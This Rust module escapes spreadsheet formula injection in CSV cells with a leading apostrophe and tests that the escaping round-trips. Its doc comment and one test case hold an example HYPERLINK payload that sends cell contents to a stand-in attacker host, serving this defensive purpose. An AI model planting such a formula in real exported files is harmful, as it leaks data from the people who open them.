//! Text cells a spreadsheet will not run (OWASP "CSV injection").
//!
//! A spreadsheet that opens a CSV file treats a cell starting with `=`, `+`, `-` or `@` as a
//! formula, and some also when a tab or carriage return comes first, or the full-width forms
//! `＝ ＋ － ＠` that some input methods type. A firm reference such as
//! `=HYPERLINK("http://evil.example/?"&A1,"x")` would then run on the analyst's machine. Such
//! cells are written with a leading apostrophe, which spreadsheets show as text and hide.
//!
//! So that the file still reads back to exactly what was stored, a cell that itself starts
//! with an apostrophe gets one more: reading strips exactly one leading apostrophe from every
//! text cell, and [`restore`] ∘ [`neutralise`] is the identity on every string.

use std::borrow::Cow;

/// What makes a spreadsheet read a cell as a formula (or hide a formula behind whitespace).
const FORMULA_STARTS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// The escape itself.
const APOSTROPHE: char = '\'';

/// The cell as written to a file a spreadsheet may open.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some(first) if first == APOSTROPHE || FORMULA_STARTS.contains(&first) => {
            Cow::Owned(format!("{APOSTROPHE}{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// The cell as it was before [`neutralise`].
pub fn restore(cell: &str) -> &str {
    cell.strip_prefix(APOSTROPHE).unwrap_or(cell)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text() {
        for (stored, written) in [
            (
                r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#,
                r#"'=HYPERLINK("http://evil.example/?"&A1,"click")"#,
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("＝1+1", "'＝1+1"),
            ("'=1", "''=1"),
            ("'quoted", "''quoted"),
        ] {
            assert_eq!(neutralise(stored), written);
            assert_eq!(restore(&neutralise(stored)), stored);
        }
    }

    #[test]
    fn ordinary_cells_are_untouched() {
        for cell in [
            "acme-01",
            "C",
            "10-49",
            "DE",
            "DE-BY",
            "",
            "a=b",
            "2026-12-04T10:00:00Z",
        ] {
            assert!(matches!(neutralise(cell), Cow::Borrowed(_)), "{cell}");
            assert_eq!(restore(cell), cell);
        }
    }
}
